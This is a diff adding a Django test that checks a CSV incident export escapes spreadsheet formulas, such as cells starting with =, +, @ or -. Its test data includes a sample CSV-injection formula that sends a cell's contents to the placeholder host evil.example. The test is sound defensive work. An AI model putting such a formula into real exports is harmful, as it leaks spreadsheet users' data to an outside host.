@@ -142,3 +142,23 @@ def test_no_template_turns_escaping_off():
         str(p.relative_to(root)) for p in python if any(t in p.read_text(encoding="utf-8") for t in ("mark_safe(", "SafeString(", "|safe"))
     }
     assert users <= reviewed, f"new unescaped output to review for XSS: {sorted(users - reviewed)}"
+
+
+@pytest.mark.django_db
+def test_csv_export_neutralises_spreadsheet_formulas(client, editor, reviewer, make_incident):
+    import csv
+    import io
+
+    from incidents.exports import spreadsheet_safe
+
+    assert spreadsheet_safe(["=1+1", "+x", "@SUM(A1)", "-cmd", "-33.7466", "12", 5, "نص", ""]) == [
+        "'=1+1", "'+x", "'@SUM(A1)", "'-cmd", "-33.7466", "12", 5, "نص", ""
+    ]  # fmt: skip
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"اضغط")'
+    make_incident(editor, publish_by=reviewer, summary_ar=formula, latitude=-33.5, longitude=44.4)
+    response = client.get(reverse("data:export_csv"))
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    header, row = rows[0], rows[1]
+    assert row[header.index("notes")] == "'" + formula
+    assert row[header.index("latitude")] == "-33.5000"
